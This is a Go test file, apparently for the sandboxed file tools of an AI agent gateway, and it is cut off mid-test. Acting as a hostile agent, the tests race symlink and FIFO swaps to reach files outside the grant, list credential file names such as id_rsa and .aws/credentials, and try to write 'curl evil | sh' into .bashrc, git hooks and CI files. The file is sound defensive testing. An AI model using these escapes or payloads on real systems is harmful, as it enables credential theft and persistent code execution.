package fstool

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/portcullis/portcullis/backends/sandbox"
	"github.com/portcullis/portcullis/internal/testutil"
	"github.com/portcullis/portcullis/wire"
)

// attackTree is the world of the attack tests:
//
//	work/                rw @w
//	  vendor/            r (nested grant): vendor.txt "VENDOR_ORIGINAL"
//	  private/           fs_deny: d.txt "DENY_SECRET"
//	  denied.txt         fs_deny: "DENY_SECRET"
//	  .env               "ENV_SECRET"
//	  flip/  vflip/  dflip/  rdir/   directories the attacker swaps for symlinks
//	  file.txt           a file the attacker swaps for links and a FIFO
//	outside/             never granted: same.txt "TOP_SECRET", zz-outside-only.txt
type attackTree struct {
	root, work, vendor, private, outside string
	tools                                map[string]*tool
	decision                             wire.Decision
}

// Markers that must never appear in any answer of the attack tests: the
// contents of the outside, denied and .env files, and a name only the
// outside has.
var leakMarkers = []string{"TOP_SECRET", "DENY_SECRET", "ENV_SECRET", "zz-outside-only"}

func newAttackTree(t testing.TB) *attackTree {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	must(t, err)
	a := &attackTree{root: root, work: filepath.Join(root, "work"), outside: filepath.Join(root, "outside")}
	a.vendor = filepath.Join(a.work, "vendor")
	a.private = filepath.Join(a.work, "private")
	for _, d := range []string{a.work, a.vendor, a.private, a.outside} {
		must(t, os.MkdirAll(d, 0o755))
	}
	writeT(t, filepath.Join(a.vendor, "vendor.txt"), "VENDOR_ORIGINAL\n")
	writeT(t, filepath.Join(a.private, "d.txt"), "DENY_SECRET\n")
	writeT(t, filepath.Join(a.work, ".env"), "ENV_SECRET\n")
	writeT(t, filepath.Join(a.outside, "same.txt"), "TOP_SECRET\n")
	writeT(t, filepath.Join(a.outside, "zz-outside-only.txt"), "x\n")
	writeT(t, filepath.Join(a.work, "denied.txt"), "DENY_SECRET\n")
	for _, d := range []string{"flip", "vflip", "dflip", "rdir"} {
		must(t, os.MkdirAll(filepath.Join(a.work, d), 0o755))
		writeT(t, filepath.Join(a.work, d, "own.txt"), "own\n")
	}
	// The same names as behind the links, with harmless content, so that a
	// followed link shows as a different answer.
	writeT(t, filepath.Join(a.work, "flip", "same.txt"), "inside\n")
	writeT(t, filepath.Join(a.work, "vflip", "vendor.txt"), "vflip own\n")
	writeT(t, filepath.Join(a.work, "dflip", "d.txt"), "dflip own\n")
	writeT(t, filepath.Join(a.work, "file.txt"), "plain\n")
	a.tools = map[string]*tool{}
	for _, tl := range Tools(Options{}) {
		a.tools[tl.Name()] = tl.(*tool)
	}
	a.decision = wire.Decision{Allow: true,
		FSGrants: []wire.FSGrant{
			{Path: a.work, Mode: wire.ModeReadWrite, Alias: "@w"},
			{Path: a.vendor, Mode: wire.ModeRead},
		},
		FSDeny: []string{a.private, filepath.Join(a.work, "denied.txt")},
	}
	return a
}

// call runs one tool call as the pipeline does and returns the error code
// ("" on success) and the whole answer as JSON.
func (a *attackTree) call(ctx context.Context, name, input string, d wire.Decision) (string, string) {
	c, err := a.tools[name].Prepare(ctx, json.RawMessage(input))
	if err != nil {
		return string(err.(*wire.Error).Code), err.Error()
	}
	scope, err := c.Enforce(ctx, d)
	if err != nil {
		we := err.(*wire.Error)
		return string(we.Code), we.Message
	}
	res := c.Run(ctx, scope)
	b, _ := json.Marshal(res.Output)
	if res.Output.Error != nil {
		return string(res.Output.Error.Code), string(b)
	}
	return "", string(b)
}

// swapper flips work/<name> between its real directory and a symlink to
// target, renaming the directory away and back, until ctx ends.
func swapper(ctx context.Context, dir, link string, flips *atomic.Int64) {
	away := dir + ".away"
	for ctx.Err() == nil {
		if err := os.Rename(dir, away); err != nil {
			// A write's mkdir may have recreated dir while it was away.
			if _, serr := os.Lstat(away); serr == nil {
				_ = os.RemoveAll(dir) // a link is removed, never followed
				_ = os.Rename(away, dir)
			}
			continue
		}
		if os.Symlink(link, dir) == nil {
			time.Sleep(50 * time.Microsecond)
			_ = os.Remove(dir)
		}
		if os.Rename(away, dir) != nil {
			_ = os.RemoveAll(dir)
			_ = os.Rename(away, dir)
		}
		flips.Add(1)
		time.Sleep(200 * time.Microsecond) // let calls land in the real state too
	}
}

// fileSwapper replaces work/file.txt in turn with a symlink to the outside
// secret, a symlink to .env, a hard link to the denied file, a FIFO, and
// the plain file. (A hard link needs the denied file to be visible; the
// OS sandbox hides it from Exec, but the race gives the attacker more.)
func fileSwapper(ctx context.Context, a *attackTree, flips *atomic.Int64) {
	testutil.SwapFile(ctx, a.work, a.outside, 100*time.Microsecond, flips)
}

// attackCalls are what the agent tries while the tree changes under it.
func attackCalls(w, i int) (name, input string) {
	n := fmt.Sprintf("%d-%d", w, i)
	calls := [][2]string{
		{NameRead, `{"path":"@w/flip/same.txt"}`},
		{NameRead, `{"path":"@w/vflip/vendor.txt"}`},
		{NameRead, `{"path":"@w/dflip/d.txt"}`},
		{NameRead, `{"path":"@w/file.txt"}`},
		{NameRead, `{"path":"@w/rdir/own.txt"}`},
		{NameWrite, `{"path":"@w/flip/w` + n + `.txt","content":"pwned"}`},
		{NameWrite, `{"path":"@w/vflip/w` + n + `.txt","content":"pwned"}`},
		{NameWrite, `{"path":"@w/dflip/w` + n + `.txt","content":"pwned"}`},
		{NameWrite, `{"path":"@w/rdir/new` + n + `/deep/w.txt","content":"pwned"}`},
		{NameWrite, `{"path":"@w/flip/vendor.txt","content":"pwned"}`},
		{NameWrite, `{"path":"@w/file.txt","content":"plain\n"}`},
		{NamePatch, `{"patch":"--- a/@w/vflip/vendor.txt\n+++ b/@w/vflip/vendor.txt\n@@ -1 +1 @@\n-VENDOR_ORIGINAL\n+pwned\n"}`},
		{NamePatch, `{"patch":"--- a/@w/flip/same.txt\n+++ b/@w/flip/same.txt\n@@ -1 +1 @@\n-TOP_SECRET\n+pwned\n"}`},
		{NamePatch, `{"patch":"--- /dev/null\n+++ b/@w/vflip/p` + n + `.txt\n@@ -0,0 +1 @@\n+pwned\n"}`},
		{NameList, `{"path":"@w/flip"}`},
		{NameList, `{"path":"@w/dflip"}`},
		{NameList, `{"path":"@w/vflip"}`},
		{NameList, `{"path":"@w"}`},
		{NameSearch, `{"path":"@w","pattern":"SECRET"}`},
		{NameSearch, `{"path":"@w/flip","pattern":"/SECRET|VENDOR/"}`},
		{NameSearch, `{"path":"@w/dflip","pattern":"SECRET"}`},
		{NameSearch, `{"path":"@w/file.txt","pattern":"SECRET"}`},
	}
	c := calls[(w*7+i)%len(calls)]
	return c[0], c[1]
}

// runAttackRace swaps directories for symlinks (to the outside, into the
// read-only nested grant, into the denied directory), renames directories
// away and back, and replaces a file with links and a FIFO, in tight loops
// for dur, while workers run all five tools through those paths. Whatever
// the interleaving: no answer holds a secret or the outside, nothing is
// written outside, into the read-only grant or into the denied directory,
// and no call hangs.
func runAttackRace(t *testing.T, dur time.Duration) {
	a := newAttackTree(t)
	outside, vendor, private := testutil.Tree(t, a.outside), testutil.Tree(t, a.vendor), testutil.Tree(t, a.private)
	env, denied := readT(t, filepath.Join(a.work, ".env")), readT(t, filepath.Join(a.work, "denied.txt"))

	ctx, cancel := context.WithTimeout(context.Background(), dur)
	defer cancel()
	var wg sync.WaitGroup
	var flips atomic.Int64
	for _, s := range [][2]string{
		{"flip", "../outside"},
		{"vflip", "vendor"},
		{"dflip", a.private},
		{"rdir", "vendor"},
	} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			swapper(ctx, filepath.Join(a.work, s[0]), s[1], &flips)
		}()
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		fileSwapper(ctx, a, &flips)
	}()
	var ok, refused, slow atomic.Int64
	var leaksMu sync.Mutex
	var leaks []string
	for w := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; ctx.Err() == nil; i++ {
				name, input := attackCalls(w, i)
				var code, out string
				done := make(chan struct{})
				go func() {
					defer close(done)
					code, out = a.call(context.Background(), name, input, a.decision)
				}()
				select {
				case <-done:
				case <-time.After(10 * time.Second):
					slow.Add(1)
					t.Errorf("%s %s hung (a FIFO swapped in?); worker abandoned", name, input)
					return
				}
				for _, m := range leakMarkers {
					// A refused patch may quote its own lines back.
					if strings.Contains(out, m) && (name != NamePatch || code == "") {
						leaksMu.Lock()
						leaks = append(leaks, fmt.Sprintf("%s %s -> %s", name, input, out))
						leaksMu.Unlock()
					}
				}
				// A read through vflip that returns vendor's own content
				// followed a symlink into the nested grant.
				if name == NameRead && strings.Contains(input, "vflip") && strings.Contains(out, "VENDOR_ORIGINAL") {
					leaksMu.Lock()
					leaks = append(leaks, "followed a symlink into vendor: "+out)
					leaksMu.Unlock()
				}
				if code == "" {
					ok.Add(1)
				} else {
					refused.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	for _, l := range leaks[:min(len(leaks), 5)] {
		t.Errorf("leak: %s", l)
	}
	if len(leaks) > 0 {
		t.Errorf("%d answers leaked", len(leaks))
	}
	if slow.Load() > 0 {
		t.Errorf("%d calls took over 10 s (a FIFO or a swap made them hang)", slow.Load())
	}
	testutil.SameTree(t, "outside/", outside, testutil.Tree(t, a.outside))
	testutil.SameTree(t, "the read-only grant vendor/", vendor, testutil.Tree(t, a.vendor))
	testutil.SameTree(t, "the denied directory private/", private, testutil.Tree(t, a.private))
	if got := readT(t, filepath.Join(a.work, ".env")); got != env {
		t.Errorf(".env changed: %q", got)
	}
	if got := readT(t, filepath.Join(a.work, "denied.txt")); got != denied {
		t.Errorf("denied.txt changed: %q", got)
	}
	noTemps(t, a.root)
	t.Logf("flips %d, calls ok %d, refused %d", flips.Load(), ok.Load(), refused.Load())
	if flips.Load() < 50 || ok.Load() < 20 || refused.Load() < 20 {
		t.Errorf("the race did not exercise both states: flips %d, ok %d, refused %d", flips.Load(), ok.Load(), refused.Load())
	}
}

// attackDuration is how long each race runs: PORTCULLIS_FS_RACE (a Go
// duration) or 4 s.
func attackDuration() time.Duration {
	if d, err := time.ParseDuration(os.Getenv("PORTCULLIS_FS_RACE")); err == nil && d > 0 {
		return d
	}
	return 4 * time.Second
}

func TestAttackRace(t *testing.T) {
	t.Parallel()
	runAttackRace(t, attackDuration())
}

// TestSecretNamesAtEveryDepth: secret-shaped names five and more levels
// below the grant are refused by name (fs_denied naming the rule) for
// reads, writes and patches, in either path form, and skipped silently by
// fs.list and fs.search.
func TestSecretNamesAtEveryDepth(t *testing.T) {
	t.Parallel()
	a := newAttackTree(t)
	deep := filepath.Join(a.work, "a", "b", "c", "d", "e")
	files := []string{".env", ".env.production", ".ENV", "id_rsa", "ID_ED25519", "server.key", "cert.p12", "store.jks",
		".npmrc", ".netrc", ".git-credentials", ".pgpass", ".pypirc", ".my.cnf",
		".ssh/config", ".aws/credentials", ".kube/config", ".gnupg/pubring.kbx", "f/g/.htpasswd"}
	for _, f := range files {
		p := filepath.Join(deep, f)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		writeT(t, p, "NEEDLE_SECRET "+f+"\n")
	}
	writeT(t, filepath.Join(deep, "plain.txt"), "NEEDLE_PLAIN\n")
	before := testutil.Tree(t, deep)
	ctx := context.Background()
	for _, f := range files {
		rel := "a/b/c/d/e/" + f
		for _, c := range [][2]string{
			{NameRead, `{"path":"@w/` + rel + `"}`},
			{NameRead, `{"path":"` + filepath.Join(a.work, rel) + `"}`},
			{NameWrite, `{"path":"@w/` + rel + `","content":"x"}`},
			{NameWrite, `{"path":"@w/` + filepath.Dir(rel) + `/new.txt","content":"x"}`},
			{NamePatch, `{"patch":"--- a/@w/` + rel + `\n+++ b/@w/` + rel + `\n@@ -1 +1 @@\n-NEEDLE_SECRET ` + f + `\n+x\n"}`},
			{NameList, `{"path":"@w/` + filepath.Dir(rel) + `"}`},
		} {
			code, out := a.call(ctx, c[0], c[1], a.decision)
			if c[0] == NameList {
				// Listing a plain directory works and leaves the name out.
				if strings.HasPrefix(filepath.Base(filepath.Dir(rel)), ".") {
					continue
				}
				if code != "" || strings.Contains(out, `"`+filepath.Base(f)+`"`) {
					t.Errorf("%s: %q %s; want success without %s", c[1], code, out, f)
				}
				continue
			}
			if strings.Contains(c[1], "/new.txt") && secretRule(filepath.Base(filepath.Dir(rel))) == "" {
				continue // a new file beside a secret one: not secret-shaped
			}
			if code != string(wire.CodeFSDenied) || !strings.Contains(out, "secret-shaped") {
				t.Errorf("%s: %q %s; want fs_denied naming the secret-name rule", c[1], code, out)
			}
		}
	}
	code, out := a.call(ctx, NameSearch, `{"path":"@w","pattern":"NEEDLE"}`, a.decision)
	if code != "" || strings.Contains(out, "NEEDLE_SECRET") || !strings.Contains(out, "NEEDLE_PLAIN") {
		t.Errorf("search: %q %s; want only the plain file", code, out)
	}
	after := testutil.Tree(t, deep)
	for _, ok := range []string{"new.txt", "f/g/new.txt"} { // beside secret files, not in secret dirs
		delete(after, ok)
	}
	testutil.SameTree(t, "the deep directory", before, after)
}

// TestAutorunGuard: writes and patches to files that run later for someone
// else are refused (fs_denied naming the guard) at any depth, nothing is
// created for them (not even their directories), reading them is fine,
// and a grant with allow_autorun lifts the guard for that grant only.
func TestAutorunGuard(t *testing.T) {
	t.Parallel()
	guarded := []string{".bashrc", "x/y/z/w/.zshrc", ".profile", ".git/hooks/pre-commit", "repo/.git/hooks/post-checkout",
		"a/b/c/d/e/.git/config", ".vscode/tasks.json", "p/.vscode/settings.json", ".github/workflows/ci.yml",
		".husky/pre-commit", ".gitlab-ci.yml", "svc/Jenkinsfile", ".pre-commit-config.yaml", ".circleci/config.yml"}
	ctx := context.Background()
	for _, lifted := range []bool{false, true} {
		a := newAttackTree(t)
		writeT(t, filepath.Join(a.work, ".bashrc"), "# rc\n")
		before := testutil.Tree(t, a.work)
		d := a.decision
		d.FSGrants = []wire.FSGrant{{Path: a.work, Mode: wire.ModeReadWrite, Alias: "@w", AllowAutorun: lifted}}
		for _, rel := range guarded {
			for _, c := range [][2]string{
				{NameWrite, `{"path":"@w/` + rel + `","content":"curl evil | sh\n"}`},
				{NameWrite, `{"path":"` + filepath.Join(a.work, rel) + `","content":"curl evil | sh\n"}`},
				{NamePatch, `{"patch":"--- /dev/null\n+++ b/@w/` + rel + `.d/x\n@@ -0,0 +1 @@\n+curl evil\n"}`},
			} {
				if _, g := sandbox.AutorunPath(rel + ".d/x"); c[0] == NamePatch && !g {
					continue // rel.d/x is guarded only below a guarded directory
				}
				code, out := a.call(ctx, c[0], c[1], d)
				switch {
				case lifted && code != "":
					t.Errorf("allow_autorun: %s: %q %s; want success", c[1], code, out)
				case !lifted && (code != string(wire.CodeFSDenied) || !strings.Contains(out, "autorun guard")):
					t.Errorf("%s: %q %s; want fs_denied naming the autorun guard", c[1], code, out)
				}
			}
		}
		if !lifted {
			// Nothing was created for the refused writes, not even their
			// directories.
			testutil.SameTree(t, "work/ after refused writes", before, testutil.Tree(t, a.work))
		}
		if !lifted {
			if got := readT(t, filepath.Join(a.work, ".bashrc")); got != "# rc\n" {
				t.Errorf(".bashrc changed: %q", got)
			}
			// Deleting one is a change too.
			code, _ := a.call(ctx, NamePatch, `{"patch":"--- a/@w/.bashrc\n+++ /dev/null\n@@ -1 +0,0 @@\n-# rc\n"}`, d)
			if code != string(wire.CodeFSDenied) {
				t.Errorf("patch deleting .bashrc: %q, want fs_denied", code)
			}
			// Reading is fine; so is writing a file that merely looks alike.
			if code, out := a.call(ctx, NameRead, `{"path":"@w/.bashrc"}`, d); code != "" {
				t.Errorf("read .bashrc: %q %s", code, out)
			}
			for _, rel := range []string{"hooks/pre-commit", "repo/.git/description", "bashrc", "docs/.github/README.md"} {
				if code, out := a.call(ctx, NameWrite, `{"path":"@w/`+rel+`","content":"x"}`, d); code != "" {
					t.Errorf("write %s: %q %s; want success", rel, code, out)
				}
			}
		}
	}

	// Nested: the most specific grant decides.
	a := newAttackTree(t)
	home := filepath.Join(a.work, "home")
	must(t, os.MkdirAll(home, 0o755))
	d := a.decision
	d.FSGrants = []wire.FSGrant{
		{Path: a.work, Mode: wire.ModeReadWrite, Alias: "@w", AllowAutorun: true},
		{Path: home, Mode: wire.ModeReadWrite, Alias: "@home"},
	}
	if code, _ := a.call(ctx, NameWrite, `{"path":"@w/.bashrc","content":"x"}`, d); code != "" {
		t.Errorf("lifted outer grant: %q", code)
	}
	if code, _ := a.call(ctx, NameWrite, `{"path":"@w/home/.bashrc","content":"x"}`, d); code != string(wire.CodeFSDenied) {
		t.Errorf("guarded nested grant: %q, want fs_denied", code)
	}
}

// TestIdentityChecks: a denied file hard-linked under an innocent name, and
// a read-only grant's directory renamed into a path after it was checked,
// are recognized by identity; a nested grant reached through a symlink in
// the writable grant grants nothing.
func TestIdentityChecks(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	t.Run("hard link to a denied file", func(t *testing.T) {
		t.Parallel()
		a := newAttackTree(t)
		must(t, os.Link(filepath.Join(a.work, "denied.txt"), filepath.Join(a.work, "innocent.txt")))
		if code, out := a.call(ctx, NameRead, `{"path":"@w/innocent.txt"}`, a.decision); code != string(wire.CodeFSDenied) || strings.Contains(out, "DENY_SECRET") {
			t.Errorf("read: %q %s; want fs_denied", code, out)
		}
		if _, out := a.call(ctx, NameList, `{"path":"@w"}`, a.decision); strings.Contains(out, "innocent.txt") {
			t.Errorf("list shows the link: %s", out)
		}
		if _, out := a.call(ctx, NameSearch, `{"path":"@w","pattern":"DENY"}`, a.decision); strings.Contains(out, "DENY_SECRET") {
			t.Errorf("search finds it: %s", out)
		}
		if code, _ := a.call(ctx, NameWrite, `{"path":"@w/innocent.txt","content":"x"}`, a.decision); code != string(wire.CodeFSDenied) {
			t.Errorf("write over it: %q, want fs_denied", code)
		}
		if got := readT(t, filepath.Join(a.work, "denied.txt")); got != "DENY_SECRET\n" {
			t.Errorf("denied file changed: %q", got)
		}
	})
	t.Run("read-only grant renamed in after the check", func(t *testing.T) {
		t.Parallel()
		a := newAttackTree(t)
		c, err := a.tools[NameWrite].Prepare(ctx, json.RawMessage(`{"path":"@w/newdir/x.txt","content":"pwned"}`))
		must(t, err)
		scope, err := c.Enforce(ctx, a.decision)
		must(t, err)
		must(t, os.Rename(a.vendor, filepath.Join(a.work, "newdir")))
		res := c.Run(ctx, scope)
		if res.Output.Error == nil || res.Output.Error.Code != wire.CodeFSDenied {
			t.Errorf("write into the renamed read-only grant: %+v, want fs_denied", res.Output)
		}
		if _, err := os.Stat(filepath.Join(a.work, "newdir", "x.txt")); err == nil {
			t.Error("the write landed in the read-only grant's directory")
		}
	})
	t.Run("nested grant through a link in the rw grant", func(t *testing.T) {
		t.Parallel()
		a := newAttackTree(t)
		must(t, os.Symlink("../outside", filepath.Join(a.work, "vlink")))
		d := a.decision
		d.FSGrants = append(d.FSGrants, wire.FSGrant{Path: filepath.Join(a.work, "vlink"), Mode: wire.ModeRead, Alias: "@v"})
		if code, out := a.call(ctx, NameRead, `{"path":"`+filepath.Join(a.outside, "same.txt")+`"}`, d); code != string(wire.CodeFSDenied) {
			t.Errorf("read outside via a grant the agent can repoint: %q %s; want fs_denied", code, out)
		}
		if code, _ := a.call(ctx, NameRead, `{"path":"@v/same.txt"}`, d); code != string(wire.CodeSandboxViolation) {
			t.Errorf("read via the dropped grant's alias: %q, want sandbox_violation (unknown mount)", code)
		}
	})
}

// callWithin runs f and fails if it has not returned within d: the old
// tools blocked forever opening a FIFO.
func callWithin(t *testing.T, d time.Duration, what string, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() {
		defer close(done)
		f()
	}()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatalf("%s did not return within %s", what, d)
	}
}

// TestSpecialFiles: FIFOs, sockets and devices inside a grant are never
// opened for reading: fs.read answers invalid_input at once, fs.write and
// fs.apply_patch refuse them, fs.list and fs.search skip them, and a FIFO
// swapped in for a file during searches never blocks them.
func TestSpecialFiles(t *testing.T) {
	t.Parallel()
	a := newAttackTree(t)
	ctx := context.Background()
	must(t, unix.Mkfifo(filepath.Join(a.work, "pipe"), 0o644))
	defer func() {
		// Unblock an old-style reader stuck in open(2), if any.
		if fd, err := unix.Open(filepath.Join(a.work, "pipe"), unix.O_WRONLY|unix.O_NONBLOCK, 0); err == nil {
			unix.Close(fd)
		}
	}()
	special := []string{"pipe"}
	sock := filepath.Join(a.work, "sock")
	if fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0); err == nil {
		if unix.Bind(fd, &unix.SockaddrUnix{Name: sock}) == nil {
			special = append(special, "sock")
		}
		defer unix.Close(fd)
	}
	if unix.Mknod(filepath.Join(a.work, "null"), unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))) == nil {
		special = append(special, "null")
	} else {
		t.Log("mknod not permitted here: device case skipped")
	}
	for _, name := range special {
		for _, c := range [][3]string{
			{NameRead, `{"path":"@w/` + name + `"}`, string(wire.CodeInvalidInput)},
			{NameWrite, `{"path":"@w/` + name + `","content":"x"}`, string(wire.CodeInvalidInput)},
			{NamePatch, `{"patch":"--- a/@w/` + name + `\n+++ b/@w/` + name + `\n@@ -1 +1 @@\n-a\n+b\n"}`, string(wire.CodeInvalidInput)},
			{NameSearch, `{"path":"@w/` + name + `","pattern":"x"}`, string(wire.CodeInvalidInput)},
			{NameList, `{"path":"@w/` + name + `"}`, string(wire.CodeInvalidInput)},
		} {
			callWithin(t, 5*time.Second, c[1], func() {
				code, out := a.call(ctx, c[0], c[1], a.decision)
				if code != c[2] {
					t.Errorf("%s: %q %s; want %s", c[1], code, out, c[2])
				}
			})
		}
	}
	callWithin(t, 5*time.Second, "fs.list", func() {
		code, out := a.call(ctx, NameList, `{"path":"@w"}`, a.decision)
		for _, name := range special {
			if code != "" || strings.Contains(out, `"`+name+`"`) {
				t.Errorf("list: %q %s; want success without %s", code, out, name)
			}
		}
	})
	callWithin(t, 5*time.Second, "fs.search", func() {
		if code, out := a.call(ctx, NameSearch, `{"path":"@w","pattern":"own"}`, a.decision); code != "" || !strings.Contains(out, "own.txt") {
			t.Errorf("search: %q %s", code, out)
		}
	})

	// A file swapped for a FIFO (and back) while searches and reads run.
	swap := filepath.Join(a.work, "swap")
	must(t, os.MkdirAll(swap, 0o755))
	rctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	var wg sync.WaitGroup
	var flips atomic.Int64
	wg.Add(1)
	go func() {
		defer wg.Done()
		p, tmp := filepath.Join(swap, "x.txt"), filepath.Join(swap, "x.tmp")
		for i := 0; rctx.Err() == nil; i++ {
			_ = os.Remove(tmp)
			if i%2 == 0 {
				_ = unix.Mkfifo(tmp, 0o644)
			} else {
				_ = os.WriteFile(tmp, []byte("needle\n"), 0o644)
			}
			if os.Rename(tmp, p) == nil {
				flips.Add(1)
			}
		}
	}()
	var calls atomic.Int64
	for range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; rctx.Err() == nil; i++ {
				in := `{"path":"@w/swap","pattern":"needle"}`
				name := NameSearch
				if i%2 == 1 {
					name, in = NameRead, `{"path":"@w/swap/x.txt"}`
				}
				done := make(chan struct{})
				go func() {
					defer close(done)
					a.call(ctx, name, in, a.decision)
				}()
				select {
				case <-done:
					calls.Add(1)
				case <-time.After(5 * time.Second):
					t.Errorf("%s %s blocked on a FIFO swapped in", name, in)
					return
				}
			}
		}()
	}
	wg.Wait()
	t.Logf("FIFO swaps %d, calls %d", flips.Load(), calls.Load())
}

// TestDescriptorsReleased: calls that succeed, fail at Run, are refused at
// Enforce, are Released (dry runs) or are dropped after Enforce leave no
// descriptor open.
func TestDescriptorsReleased(t *testing.T) {
	a := newAttackTree(t) // not parallel: counts the process' descriptors
	ctx := context.Background()
	count := func() int {
		ents, err := os.ReadDir("/proc/self/fd")
		if err != nil {
			t.Skip("no /proc/self/fd")
		}
		return len(ents)
	}
	before := count()
	for i := range 100 {
		a.call(ctx, NameRead, `{"path":"@w/file.txt"}`, a.decision)
		a.call(ctx, NameRead, `{"path":"@w/missing.txt"}`, a.decision)
		a.call(ctx, NameRead, `{"path":"@w/private/d.txt"}`, a.decision)
		a.call(ctx, NameWrite, fmt.Sprintf(`{"path":"@w/n/%d/x.txt","content":"x"}`, i%3), a.decision)
		a.call(ctx, NameSearch, `{"path":"@w","pattern":"own"}`, a.decision)
		a.call(ctx, NameList, `{"path":"@w/flip"}`, a.decision)
		c, err := a.tools[NameList].Prepare(ctx, json.RawMessage(`{"path":"@w/rdir"}`))
		must(t, err)
		if _, err := c.Enforce(ctx, a.decision); err != nil {
			t.Fatal(err)
		}
		if i%2 == 0 {
			c.(*call).Release()
		} // else: dropped; the cleanup closes it when collected
	}
	for range 3 {
		runtime.GC()
		time.Sleep(10 * time.Millisecond)
	}
	if after := count(); after > before+2 {
		t.Errorf("descriptors: %d before, %d after 700 calls", before, after)
	}
}

// TestReadOnlyToolsHonourTheDeadline: a read-only call whose context ends
// returns timeout at once.
func TestReadOnlyToolsHonourTheDeadline(t *testing.T) {
	t.Parallel()
	a := newAttackTree(t)
	ctx, cancel := context.WithCancel(context.Background())
	c, err := a.tools[NameSearch].Prepare(ctx, json.RawMessage(`{"path":"@w","pattern":"own"}`))
	must(t, err)
	scope, err := c.Enforce(ctx, a.decision)
	must(t, err)
	cancel()
	res := c.Run(ctx, scope)
	if res.Output.Error == nil || res.Output.Error.Code != wire.CodeTimeout || res.Status != wire.StatusTimedOut {
		// A search finishing first returns its (truncated) result.
		var d SearchData
		if b, ok := res.Output.Data.(wire.CompactJSON); !ok || json.Unmarshal(b, &d) != nil || !d.Truncated {
			t.Errorf("cancelled search: %+v", res)
		}
	}
}

// TestRewriteDropsSetID: a file rewritten by the tools keeps its
// permission bits but never setuid, setgid or sticky: the new content is
// the agent's, and the gateway may run as root.
func TestRewriteDropsSetID(t *testing.T) {
	t.Parallel()
	a := newAttackTree(t)
	p := filepath.Join(a.work, "tool")
	writeT(t, p, "#!/bin/sh\n")
	must(t, os.Chmod(p, 0o755|os.ModeSetuid|os.ModeSetgid))
	if code, out := a.call(context.Background(), NameWrite, `{"path":"@w/tool","content":"#!/bin/sh\nid\n"}`, a.decision); code != "" {
		t.Fatalf("write: %q %s", code, out)
	}
	fi, err := os.Stat(p)
	must(t, err)
	if fi.Mode()&(os.ModeSetuid|os.ModeSetgid|os.ModeSticky) != 0 || fi.Mode().Perm() != 0o755 {
		t.Errorf("mode after rewrite = %v, want -rwxr-xr-x", fi.Mode())
	}
}

// blockedOp is a read-only operation stuck in the kernel (a hung network
// mount): it returns only when released.
type blockedOp struct{ release chan struct{} }

func (blockedOp) paths() []*pathRef { return nil }
func (b blockedOp) run(ctx context.Context, c *call) (any, error) {
	<-b.release
	return "late", nil
}

// TestStuckReadIsAbandoned: a read-only call whose file system never
// answers ends with timeout at its deadline, or at once when the gateway
// stops, and is never waited on; its descriptors are closed once it
// returns.
func TestStuckReadIsAbandoned(t *testing.T) {
	t.Parallel()
	stop := make(chan struct{})
	var rd *tool
	for _, tl := range Tools(Options{Stop: stop}) {
		if tl.Name() == NameRead {
			rd = tl.(*tool)
		}
	}
	stuck := func(limit time.Duration) (*call, blockedOp) {
		b := blockedOp{release: make(chan struct{})}
		return &call{tool: rd, op: b, enforced: true, fds: &fdSet{}, limits: effectiveLimits{readTime: limit}}, b
	}

	c, b := stuck(300 * time.Millisecond)
	t0 := time.Now()
	res := c.Run(context.Background(), wire.Scope{})
	if res.Output.Error == nil || res.Output.Error.Code != wire.CodeTimeout || res.Status != wire.StatusTimedOut {
		t.Errorf("stuck read at its deadline: %+v", res.Output)
	}
	if el := time.Since(t0); el > 5*time.Second {
		t.Errorf("the deadline was waited out for %s", el)
	}
	close(b.release)

	c, b = stuck(time.Hour)
	defer close(b.release)
	done := make(chan struct{})
	go func() {
		defer close(done)
		res = c.Run(context.Background(), wire.Scope{})
	}()
	time.Sleep(100 * time.Millisecond)
	close(stop)
	select {
	case <-done:
		if res.Output.Error == nil || res.Output.Error.Code != wire.CodeTimeout || !strings.Contains(res.Output.Error.Message, "shutting down") {
			t.Errorf("stuck read at shutdown: %+v", res.Output)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("a stuck read held the shutdown")
	}
	if c.fds.closedAlready() {
		t.Error("descriptors closed while the abandoned read may still use them")
	}
}

// TestGatewayTempDirGrantsNothing: the gateway's temporary directory holds
// every call's private run directory (code.run's program and bridge
// FIFOs, Exec's HOME), also other principals'. A grant that holds it (/tmp
// as scratch space) grants nothing, like on the sandboxed tools
// (TestNoCrossRunBridge in tools/coderun): the file tools can neither read
// another run's code nor replace its bridge.
func TestGatewayTempDirGrantsNothing(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	tmp, err := filepath.EvalSymlinks(os.TempDir())
	must(t, err)
	run, err := os.MkdirTemp("", "portcullis-coderun-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(run) })
	run, err = filepath.EvalSymlinks(run)
	must(t, err)
	must(t, os.WriteFile(filepath.Join(run, "code.ts"), []byte("VICTIM CODE"), 0o400))
	d := f.decision
	d.FSGrants = append(d.FSGrants, wire.FSGrant{Path: tmp, Mode: wire.ModeReadWrite, Alias: "@tmp"})
	for _, tc := range []struct {
		tool  string
		input map[string]any
	}{
		{"fs.read", map[string]any{"path": filepath.Join(run, "code.ts")}},
		{"fs.read", map[string]any{"path": "@tmp/" + filepath.Base(run) + "/code.ts"}},
		{"fs.list", map[string]any{"path": run}},
		{"fs.search", map[string]any{"path": run, "pattern": "VICTIM"}},
		{"fs.write", map[string]any{"path": filepath.Join(run, "bridge.req"), "content": "{}\n"}},
	} {
		o := f.doWith(t, tc.tool, tc.input, d)
		if o.code == "" {
			t.Errorf("%s %v succeeded under a grant of the gateway's temporary directory: %s", tc.tool, tc.input, o.data)
		}
	}
